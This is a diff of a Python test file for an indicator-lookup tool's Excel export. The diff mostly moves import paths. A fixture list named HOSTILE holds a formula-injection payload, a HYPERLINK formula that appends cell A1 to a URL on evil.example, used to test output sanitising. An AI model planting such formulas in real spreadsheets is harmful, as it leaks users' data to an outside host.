@@ -9,19 +9,10 @@ from pathlib import Path
 import openpyxl
 import pytest
 
-from iocdesk.core.export.report import Report
-from iocdesk.core.export.xlsx import (
-    DETAILS_HEADER,
-    EXCEL_MAX_CHARS,
-    RESULTS_HEADER,
-    RISK_COLOURS,
-    pulsedive_link,
-    safe_text,
-    split_titles,
-    write_workbook,
-)
-from iocdesk.core.indicators import IndicatorType
-from iocdesk.core.results import Feed, Intel, LookupResult, Risk, RiskFactor, Status, Threat
+from iocdesk.reports.report import Report
+from iocdesk.reports.xlsx import DETAILS_HEADER, EXCEL_MAX_CHARS, RESULTS_HEADER, RISK_COLOURS, pulsedive_link, safe_text, split_titles, write_workbook
+from iocdesk.indicators.types import IndicatorType
+from iocdesk.indicators.results import Feed, Intel, LookupResult, Risk, RiskFactor, Status, Threat
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -162,7 +153,7 @@ def test_chart_is_a_native_chart_object(tmp_path):
     # In the written workbook object (before saving) the Summary sheet carries the chart.
     from openpyxl.chart import BarChart
 
-    import iocdesk.core.export.xlsx as xlsx
+    import iocdesk.reports.xlsx as xlsx
 
     captured = {}
     original = openpyxl.Workbook.save
@@ -396,7 +387,7 @@ def test_a_few_thousand_rows_quickly(tmp_path):
 
 
 def test_links_past_the_per_sheet_cap_are_plain_text(tmp_path, monkeypatch):
-    import iocdesk.core.export.xlsx as xlsx
+    import iocdesk.reports.xlsx as xlsx
 
     monkeypatch.setattr(xlsx, "EXCEL_MAX_LINKS", 2)
     results = [LookupResult(f"h{i}.example", IndicatorType.DOMAIN, Status.FOUND, _intel(i + 1, Risk.LOW)) for i in range(5)]
